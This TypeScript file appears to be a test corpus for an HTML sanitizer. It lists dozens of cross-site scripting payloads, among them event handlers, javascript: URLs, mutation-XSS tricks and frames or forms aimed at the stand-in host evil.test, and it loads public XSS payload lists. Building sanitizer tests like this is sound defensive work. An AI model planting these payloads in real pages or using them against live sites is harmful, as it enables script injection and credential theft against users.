import { readCorpus } from './corpora.ts';

/** Bodies of our own writing: every way that we know of to bring script, styles or foreign frames into a page. */
export const ownBodies: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test>',
  '<script\u0000>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x OnError="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror\u0000="alert(1)">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="vbscript:x">a</a>',
  '<a href="data:text/html,<script>1</script>">a</a>',
  '<a href="//user:pass@evil.test/">a</a>',
  '<a href="https://own.example.com@evil.test/">a</a>',
  '<a href="#" onclick=alert(1) style="position:fixed;inset:0">a</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.test/"></iframe>',
  '<iframe src="https://player.example.com.evil.test/"></iframe>',
  '<iframe src="https://evil.test/?player.example.com"></iframe>',
  '<iframe src="http://player.example.com/"></iframe>',
  '<iframe src="https://player.example.com@evil.test/"></iframe>',
  '<iframe src="https://player.example.com:8443/"></iframe>',
  '<iframe src="https://player.example.com/1" srcdoc="<script>1</script>" onload=alert(1) name=top ' +
    'allow="camera *" sandbox="allow-top-navigation"></iframe>',
  '<iframe src="https://player.example.com/1"><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<object data="javascript:alert(1)"><embed src="data:text/html,x"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<form action="https://evil.test/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>*{display:none}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">x</div>',
  '<img name="body" id="getElementById"><a id="cookie" name="cookie">x</a>',
  '<form id=x><input name=attributes></form>',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x, /a.png 3x">',
  '<video src="javascript:alert(1)" poster="javascript:alert(1)" onplay=alert(1)><source src="data:text/html,x"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
  '<body onload=alert(1)><p>x',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<a href="https://a.example.com/" target="top" rel="opener">x</a>',
  '<p class="fixed overlay">x</p>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="https://a.example.com/" ping="https://evil.test/">x</a>',
  '<p contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<article-dropped onclick=alert(1)>x</article-dropped>',
  '<p is="x-evil" slot="a" part="b">x</p>',
  '<div id="content-&quot;><script>alert(1)</script>">x</div>',
  '<table><tr><td title=">&lt;script&gt;">x</td></tr></table>',
  '<a title="</div><script>alert(1)</script>" href="/a">x</a>',
  '<img alt="<table><tr><td>" src="/a.png"><table><tr><td>x</table>',
  '<set attributeName=onmouseover to=alert(1)><animate attributeName=href values=javascript:alert(1)>',
  '<use href="data:image/svg+xml,x#y">',
  '<select><option><script>alert(1)</script></select>',
  '\u2028<script>alert(1)</script>',
];

/** The bodies of the public lists; none where those are not next to the project, which the caller says plainly. */
export function publicBodies(): string[] {
  const json = (name: string): Record<string, string>[] => {
    const corpus = readCorpus(name);
    const parsed: unknown = corpus === null ? [] : JSON.parse(corpus);
    return (Array.isArray(parsed) ? parsed : Object.values(parsed as object)) as Record<string, string>[];
  };
  const lines = (name: string): string[] =>
    readCorpus(name)
      ?.split('\n')
      .filter((line) => line !== '') ?? [];
  // Bodies of real articles, made to break the themes of a blog: they must stay readable next to the others.
  const written = [
    ...(readCorpus('wordpress-theme-test-data.xml') ?? '').matchAll(
      /<content:encoded><!\[CDATA\[([^]*?)\]\]><\/content:encoded>/g,
    ),
  ].map(([, body]) => body!);
  return [
    ...written,
    ...json('dompurify-expect.json').map(({ payload }) => payload!),
    ...json('html5lib-sanitizer-tests1.json').map(({ input }) => input!),
    ...lines('xss-mario.patt.txt'),
    ...lines('xss-rsnake.patt.txt'),
    ...(json('blns.json') as unknown as string[]),
  ].filter((body) => typeof body === 'string');
}
